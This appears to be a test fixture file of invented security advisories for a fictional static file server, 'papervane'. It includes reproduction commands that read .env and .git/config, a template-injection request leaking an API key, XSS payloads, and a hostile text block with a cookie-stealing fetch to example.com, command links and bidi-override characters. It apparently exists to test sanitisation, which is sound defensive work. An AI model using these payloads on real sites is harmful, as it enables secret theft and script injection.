/** What the sample's advisories say. All of it is made up. */

/** A report that has just come: right about what it says. */
export const HIDDEN_FILES = `Hello,

papervane serves files whose name starts with a dot. Listings leave them out, so I think they are not meant to be seen:
\`src/listing.js:8\` filters them. But nothing in \`resolvePath\` (\`src/static.js:12\`) does, and whoever knows the name gets
the file.

## How to see it

\`\`\`sh
mkdir -p site/.git && echo 'SECRET=1' > site/.env
npx papervane ./site 8080 &
curl http://127.0.0.1:8080/.env
curl http://127.0.0.1:8080/.git/config
\`\`\`

Both answer 200. I tried \`v1.4.1\` and \`v1.3.0\`.

## Why it matters

Many people serve the folder in which they work. Then everyone can read \`.env\`, and with \`.git\` the whole history.

\`CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N\`

## What I would do

Answer 404 to each path with a part that starts with a dot, except \`.well-known\`:

\`\`\`js
if (pathname.split('/').some(part => part.startsWith('.') && part !== '.well-known')) return undefined;
\`\`\`

I have told nobody. Please credit me as nberg.
`;

/** A report with a discussion: it was misunderstood at first. */
export const SECOND_PASS = `\`renderTemplate\` in \`src/template.js\` fills a page in two passes. First \`{{{name}}}\`, then \`{{name}}\`. What the first
pass wrote is read again by the second:

\`\`\`js
return source
  .replace(/\\{\\{\\{\\s*([\\w.]+)\\s*\\}\\}\\}/g, (_, name) => lookup(data, name))
  .replace(/\\{\\{\\s*([\\w.]+)\\s*\\}\\}/g, (_, name) => escapeHtml(lookup(data, name)));
\`\`\`

So a page that shows anything of a visitor with three braces lets the visitor ask for any value of the site:

1. A page \`hello.page.html\` with \`{{{query.name}}}\`.
2. \`curl 'http://127.0.0.1:8080/hello.page.html?name=%7B%7Bsite.apiKey%7D%7D'\`
3. The answer holds \`apiKey\` of the options, which no page shows.

Found in v1.4.1 (\`src/template.js:20\`), there since \`{{{\` exists. I suggest one pass for both.
`;

/** An accepted one with a private fork, in which a fix is being made. */
export const PREVIEW_SCRIPT = `### Impact

With \`preview\` on, which is the default, a link can change all data of a page. Pages that show a value of the site with
three braces, for example \`{{{site.banner}}}\`, then run a script that the link brought:

    /index.page.html?preview={"site":{"banner":"<script>alert(1)</script>"}}

Sites whose pages use two braces only are not affected.

### Patches

1.4.2 will switch \`preview\` off unless it is asked for. In 2.0.0 it is gone.

### Workarounds

Set \`preview: false\` in \`papervane.json\`.

### References

\`pageData\` in \`src/page.js:9\`; README, section "Preview".
`;

/** A draft that the maintainers began themselves. */
export const OPTIONS_FILE = `### Impact

Without a \`root\`, papervane serves the folder in which it is started. Its options file \`papervane.json\` lies there too,
so everyone can read it at \`/papervane.json\`: response headers, data of the site, and whatever else was written into it.

### Patches

Not yet. The file will be left out in 1.4.2.

### Workarounds

Give a \`root\` that holds nothing but the site.
`;

/** Published. */
export const PASSWORD_TIMING = `### Impact

The password check compares letter by letter and stops at the first difference. Over a fast network, the time of the
answer tells how much of a guess is right.

### Patches

The password check was removed in 1.3.0.

### Workarounds

Put a proxy with a sign-in of its own in front.
`;

/** Published. */
export const INHERITED_NAMES = `### Impact

\`{{query.constructor.name}}\` in a page shows names from the inside of the server. No value of another visitor can be
read with it.

### Patches

1.1.1 looks at own fields only.
`;

/** Published and taken back: it works as documented. */
export const MARKDOWN_HTML = `### Impact

HTML in Markdown files reaches the visitor's browser as it is.

### Update

This advisory is withdrawn. Markdown files are written by whoever owns the site, as HTML files are, and the README says
that HTML in them is kept.
`;

/** Closed: not a vulnerability. */
export const SERVER_HEADER = `Dear team,

your server does not set the following security headers, which is a **HIGH** risk:

- \`X-Frame-Options\`
- \`Strict-Transport-Security\`
- \`X-XSS-Protection\`

Also the port is open in a scan. Kindly let me know about the bounty for this finding.
`;

/** A title that tries to be something else: turned letters, markup, an icon, a command. */
export const HOSTILE_TITLE =
	'Pages show \u202Eyek.etavirp\u202C <img src=x onerror=alert(1)> $(bug) [open](command:workbench.action.quit)';

/** Hostile on purpose: markup, remote images, links that run commands, turned and invisible letters, an endless word. */
export const HOSTILE_TEXT = [
	'Please open **all** links below to see the proof.',
	'',
	"<script>fetch('https://example.com/?c=' + document.cookie)</script>",
	'<img src=x onerror="alert(document.domain)"> <svg onload=alert(1)></svg> <style>* { display: none }</style>',
	'![read receipt](https://example.com/pixel.png) <iframe src="https://example.com/frame"></iframe>',
	'[release notes](command:workbench.action.quit) [data](data:text/html,<script>alert(1)</script>)',
	'[papervane.example.org](https://example.com/papervane.example.org)',
	'See `src/\u202Esj.citats\u202C` and pass\u200Bword, admin\u0000, \uFEFFpapervane.',
	'@papervane/owners please close #1. Fixes papervane/papervane#1.',
	'```',
	'</textarea></title></script>{{site.apiKey}} ${process.env.HOME} %s%n',
	'```',
	'A'.repeat(4000),
].join('\r\n');

const STACK = Array.from(
	{ length: 12 },
	(_, i) => `    at layer${i} (/home/dev/site/node_modules/papervane/src/static.js:${19 + i}:${7 + i})`,
).join('\n');

/** As long as GitHub takes: the output of a tool, with one true sentence at its end. */
export const LONG_TEXT = [
	'A fuzzer ran against `sendFile` for three nights. Below is everything it printed.',
	...Array.from(
		{ length: 60 },
		(_, i) => `## Run ${i + 1}\n\n\`\`\`\nGET /${'%2e'.repeat(i)}/index.html\n${STACK}\n\`\`\``,
	),
	'In short: `GET /%00` answers 500 instead of 400, because `stat` refuses the name.',
].join('\n\n');
